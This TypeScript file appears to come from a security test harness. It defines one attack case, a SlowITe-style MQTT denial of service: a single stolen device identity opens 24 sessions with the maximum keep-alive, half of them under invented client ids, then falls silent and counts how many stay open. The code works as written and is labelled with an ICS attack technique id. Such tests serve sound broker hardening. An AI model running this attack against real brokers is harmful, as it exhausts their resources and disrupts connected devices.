import type { Attack } from './attack.ts'
import { connect } from './packets.ts'

const SESSIONS = 24
const SILENCE = 2000
const LONGEST_KEEP_ALIVE = 65535

/**
 * SlowITe's second form: one stolen identity opens many sessions with the longest keep-alive there is and falls silent,
 * half of them under made-up client ids. Effect: sessions held at once beyond the one that a device may have.
 */
export const keepaliveAbuse: Attack = {
  name: 'keepalive-abuse',
  technique: 'T0814',
  title: 'Hold many silent sessions with one identity',
  expected: 'floor',
  alone: false,
  seconds: () => 4,
  async run(range) {
    await range.proveAccess()
    const entries = await Promise.all(
      Array.from({ length: SESSIONS }, async (_, i) => {
        const session = await range.dial().catch(() => null)
        const clientId = i % 2 === 0 ? range.device : `${range.device}-${i}`
        const hello = connect({ version: i % 4 < 2 ? 4 : 5, clientId, keepAlive: LONGEST_KEEP_ALIVE })
        return session && (await session.login(hello)) === 0 ? session : null
      }),
    )
    await range.sleep(SILENCE)
    const open = entries.filter(session => session !== null && !session.closed).length
    const detail = `${open} of ${SESSIONS} sessions of one identity open at once after ${SILENCE / 1000} s of silence`
    return { attempts: SESSIONS, effect: Math.max(0, open - 1), detail }
  },
}
